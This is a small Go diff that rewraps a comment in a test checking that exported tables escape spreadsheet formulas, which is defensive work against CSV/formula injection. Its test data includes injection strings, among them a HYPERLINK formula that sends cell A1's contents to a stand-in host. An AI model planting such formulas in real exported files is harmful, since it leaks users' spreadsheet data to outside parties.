@@ -11,8 +11,8 @@ import (
 	"dcctree/core/topology"
 )
 
-// TestTablesHoldNoFormulas: names, labels and cells that spreadsheets would compute stand behind an apostrophe, numbers do not, and
-// our own reader gives them all back.
+// TestTablesHoldNoFormulas: names, labels and cells that spreadsheets would compute stand behind an apostrophe, numbers
+// do not, and our own reader gives them all back.
 func TestTablesHoldNoFormulas(t *testing.T) {
 	const link = `=HYPERLINK("//h.example/?"&A1,"x")`
 	texts := []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", link, "-1.5"}
